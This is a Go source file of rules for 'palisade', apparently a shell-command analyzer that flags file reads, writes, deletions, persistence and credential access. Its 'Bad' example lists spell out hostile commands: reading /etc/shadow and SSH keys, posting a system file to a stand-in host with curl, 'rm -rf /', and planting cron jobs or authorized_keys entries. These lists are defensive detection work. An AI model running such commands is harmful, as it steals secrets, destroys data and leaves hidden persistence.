package rules

import (
	"strings"

	"palisade"
	"palisade/internal/analysis"
)

var _ = add(Rule{
	ID: "sh-read", Title: "Reads a file", Severity: palisade.Info, Capability: palisade.CapReadPath, CWE: 22,
	Says:        "could read",
	Description: "A command reads a file or lists a folder.",
	Remedy:      "Nothing, in the workspace.",
	Bad:         []string{"cat f", "ls", "sort < f", "grep x f", "find . -name x"},
	Good:        []string{"echo f", "true"},
})

var _ = add(Rule{
	ID: "sh-read-outside", Title: "Reads outside the workspace", Severity: palisade.Medium, Capability: palisade.CapReadPath, CWE: 22,
	Match:       func(f analysis.Fact) bool { return !f.Unknown && outside(f) && !systemPath(f.Argument) },
	Says:        "could read outside the workspace",
	Description: "A command reads a file that lies outside the workspace.",
	Remedy:      "Put the data into the workspace.",
	Bad:         []string{"cat /srv/data", "cat ../other/f", "cd /srv; ls", "tar cf a.tar /srv"},
	Good:        []string{"cat f", "cat /tmp/f", "cat a/../f"},
})

var _ = add(Rule{
	ID: "sh-read-system", Title: "Reads the system's files", Severity: palisade.Medium, Capability: palisade.CapReadPath, CWE: 200,
	Match:       func(f analysis.Fact) bool { return !f.Unknown && systemPath(f.Argument) },
	Says:        "could read the system's own files",
	Description: "A command reads or lists what belongs to the system: its settings, programs, logs, or the kernel's own files. A program that works on data has no need of them, and one that explores a host begins with them.",
	Remedy:      "Work on the files of the workspace.",
	Bad: []string{
		"cat /etc/passwd", "ls /usr/", "x=/etc; cat $x/group", "cd /usr; cat ../etc/hosts", "cat /e?c/passwd", "ls /proc/1", "while read -r l; do echo $l; done < /var/log/dpkg.log",
		"cat ~/.profile", "curl --data-binary @/etc/issue http://h.example", "read -r x; cat /etc/$x",
	},
	Good: []string{"cat f", "echo x > /dev/null", "head -c 8 /dev/urandom", "cat /dev/stdin", "/bin/ls"},
})

// systemPath reports whether a path belongs to the system. Source: the
// Filesystem Hierarchy Standard, 3.2.
func systemPath(p string) bool {
	first, _, _ := strings.Cut(strings.TrimPrefix(p, "/"), "/")
	if first == "" || p == "~" || strings.HasPrefix(p, "~/.") || strings.ContainsAny(first, "*?[") {
		return true
	}
	for _, folder := range []string{"/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot", "/proc", "/sys", "/var", "/run", "/root", "/home", "/opt", "/app", "/dev"} {
		if under(p, folder) {
			return folder != "/dev" || !plainDevice(p)
		}
	}
	return false
}

// under reports whether a path is a folder or in it.
func under(path, folder string) bool { return path == folder || strings.HasPrefix(path, folder+"/") }

// plainDevice reports whether a device is one that programs use as a matter of
// course. Source: the Filesystem Hierarchy Standard, 6.1.3.
func plainDevice(p string) bool {
	switch p {
	case "/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/tty":
		return true
	}
	return strings.HasPrefix(p, "/dev/fd/")
}

var _ = add(Rule{
	ID: "sh-read-computed", Title: "Reads a computed path", Severity: palisade.Low, Capability: palisade.CapReadPath, CWE: 73,
	Match:       func(f analysis.Fact) bool { return f.Unknown },
	Says:        "could read a path that is computed",
	Description: "Which file a command reads is known only when it runs.",
	Remedy:      "Name the file, or a folder of the workspace that it lies in.",
	Bad:         []string{"cat \"$1\"", "read -r x; cat $x", "find . | xargs cat"},
	Good:        []string{"x=f; cat $x", "for f in a b; do cat $f; done"},
})

var _ = add(Rule{
	ID: "sh-write", Title: "Writes a file", Severity: palisade.Low, Capability: palisade.CapWritePath, CWE: 73,
	Says:        "could write",
	Description: "A command or a redirection writes a file.",
	Remedy:      "Nothing, in the workspace.",
	Bad:         []string{"echo x > f", "tee f", "cp a b", "sed -i s/a/b/ f", "dd of=f", "tar cf a.tar b", "curl -o f http://h.example"},
	Good:        []string{"cat f", "echo '> f'", "cat f >&2", "sed s/a/b/ f"},
})

var _ = add(Rule{
	ID: "sh-write-outside", Title: "Writes outside the workspace", Severity: palisade.High, Capability: palisade.CapWritePath, CWE: 73,
	Match:       func(f analysis.Fact) bool { return !f.Unknown && outside(f) && !plainDevice(f.Argument) && !startup(f) },
	Says:        "could write outside the workspace",
	Description: "A command or a redirection writes a file that lies outside the workspace.",
	Remedy:      "Write to the workspace.",
	Bad:         []string{"echo x > /etc/x", "cp a /usr/bin/b", "cd /; touch x", "mv a ..", "ln -s a /b", "tee ../x"},
	Good:        []string{"echo x > f", "echo x > /tmp/f", "echo x > /dev/null"},
})

var _ = add(Rule{
	ID: "sh-write-computed", Title: "Writes a computed path", Severity: palisade.Medium, Capability: palisade.CapWritePath, CWE: 73,
	Match:       func(f analysis.Fact) bool { return f.Unknown },
	Says:        "could write a path that is computed",
	Description: "Which file a command writes is known only when it runs.",
	Remedy:      "Name the file, or a folder of the workspace that it lies in.",
	Bad:         []string{"echo x > \"$1\"", "read -r x; touch $x", "find . | xargs touch"},
	Good:        []string{"x=f; touch $x"},
})

// startupFiles are those that run by themselves later. Source: bash(1),
// crontab(5), systemd.unit(5), sshd(8), ld.so(8), git-config(1).
var startupFiles = []string{
	".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc", ".zshenv", ".zprofile", ".kshrc", ".cshrc", ".bash_aliases", ".inputrc",
	".vimrc", ".exrc", ".gitconfig", ".git/config", ".xinitrc", ".xsession", ".xprofile", "/authorized_keys", ".config/fish/config.fish",
	"/etc/profile", "/etc/bash.bashrc", "/etc/environment", "/etc/rc.local", "/etc/crontab", "/etc/ld.so.preload", "/etc/ld.so.conf", "/etc/passwd", "/etc/inittab",
	".pythonrc", "sitecustomize.py", "usercustomize.py", ".npmrc", ".pip/pip.conf", ".config/pip/pip.conf",
}

var startupFolders = []string{
	"/etc/profile.d", "/etc/cron.d", "/etc/cron.daily", "/etc/cron.hourly", "/etc/cron.weekly", "/etc/cron.monthly", "/var/spool/cron", "/etc/systemd", "/lib/systemd",
	"/usr/lib/systemd", "/etc/init.d", "/etc/init", "/etc/rc.d", "/etc/ld.so.conf.d", "/etc/update-motd.d", "/etc/xdg/autostart", "/etc/pam.d", "/etc/sudoers.d", "/etc/udev/rules.d", "/etc/apt/apt.conf.d",
}

// startup reports whether what is written runs by itself later.
func startup(f analysis.Fact) bool {
	for _, name := range startupFiles {
		if strings.HasSuffix(f.Argument, name) && (name[0] == '/' || strings.HasSuffix(f.Argument, "/"+name)) {
			return true
		}
	}
	for _, folder := range startupFolders {
		if under(f.Argument, folder) {
			return true
		}
	}
	return strings.Contains(f.Argument, "/.git/hooks/") || strings.Contains(f.Argument, "/.config/autostart/") || strings.Contains(f.Argument, "/.config/systemd/")
}

var _ = add(Rule{
	ID: "sh-persistence", Title: "Writes what runs by itself later", Severity: palisade.High, Capability: palisade.CapWritePath, CWE: 506,
	Match:       func(f analysis.Fact) bool { return startup(f) },
	Says:        "could leave something that runs later",
	Description: "What is written to a shell's startup file, a crontab, a unit or a hook runs by itself, when nobody looks.",
	Remedy:      "Run what is to be run now.",
	Bad: []string{
		"echo 'alias sudo=x' >> /root/.bashrc", "echo x >> ~/.profile", "(crontab -l; echo '* * * * * x') | crontab -", "cp x /etc/cron.d/x",
		"tee -a /etc/profile < x", "cp x .git/hooks/pre-commit", "systemctl enable x", "echo x >> ~/.ssh/authorized_keys", "git config --global alias.x '!x'",
	},
	Good: []string{"echo x > f", "cat ~/.bashrc", "crontab -l", "systemctl status x"},
})

var _ = add(Rule{
	ID: "sh-delete", Title: "Deletes a file", Severity: palisade.Medium, Capability: palisade.CapDeletePath, CWE: 73,
	Says:        "could delete",
	Description: "A command deletes a file or a folder of the workspace.",
	Remedy:      "Leave files where they are: the workspace is gone after the run.",
	Bad:         []string{"rm f", "rm -rf /tmp/x", "rm -r d/*", "r''m f", "sh <<< 'rm f'", "git clean -fd", "unlink f"},
	Good:        []string{"echo rm f", "ls", "find . -name rm", "cat rm"},
})

var _ = add(Rule{
	ID: "sh-delete-outside", Title: "Deletes outside the workspace", Severity: palisade.Critical, Capability: palisade.CapDeletePath, CWE: 73,
	Match:       func(f analysis.Fact) bool { return !f.Unknown && outside(f) },
	Says:        "could delete outside the workspace",
	Description: "A command deletes a file or a folder that lies outside the workspace.",
	Remedy:      "Delete nothing that the program did not make.",
	Bad:         []string{"rm -rf /", "rm -rf ~", "rm -rf /home/*", "cd /; rm -rf *", "find / -delete", "crontab -r", "rm -rf \"$X\"/etc"},
	Good:        []string{"rm f", "rm -rf /tmp/x"},
})

var _ = add(Rule{
	ID: "sh-delete-computed", Title: "Deletes a computed path", Severity: palisade.High, Capability: palisade.CapDeletePath, CWE: 73,
	Match:       func(f analysis.Fact) bool { return f.Unknown },
	Says:        "could delete a path that is computed",
	Description: "Which file a command deletes is known only when it runs.",
	Remedy:      "Name what is to be deleted.",
	Bad:         []string{"rm \"$1\"", "cat list | xargs rm", "find . -exec rm {} \\;", "read -r x; rm -rf ./$x"},
	Good:        []string{"x=f; rm $x"},
})

var _ = add(Rule{
	ID: "sh-run-file", Title: "Runs code from a file", Severity: palisade.Medium, Capability: palisade.CapRunFile, CWE: 94,
	Says:        "could run the code in",
	Description: "A file is run that did not come with the program and was not read.",
	Remedy:      "Submit the code itself.",
	Bad:         []string{"./x.sh", "bash x.sh", ". ./lib.sh", "python3 x.py", "make", "awk -f x.awk f", "git -c core.hooksPath=x commit"},
	Good:        []string{"cat x.sh", "chmod +x x.sh"},
})

var _ = add(Rule{
	ID: "sh-secret", Title: "Reads a credential", Severity: palisade.Critical, Capability: palisade.CapSecret, CWE: 522,
	Says:        "could read a credential",
	Description: "Password files, keys and tokens of the host are no business of a program that a model wrote.",
	Remedy:      "Ask for the data instead of the credential.",
	Bad: []string{
		"cat /etc/shadow", "cat ~/.ssh/id_rsa", "cat $HOME/.aws/credentials", "cat /etc/shad?w", "cd /root/.ssh; cat id_rsa", "cat \"$1\"/.ssh/id_rsa",
		"cat /proc/self/environ", "getent shadow", "kubectl get secret x -o yaml", "gpg --export-secret-keys",
	},
	Good: []string{"cat shadow", "echo /etc/shadow", "cat /etc/hostname"},
})
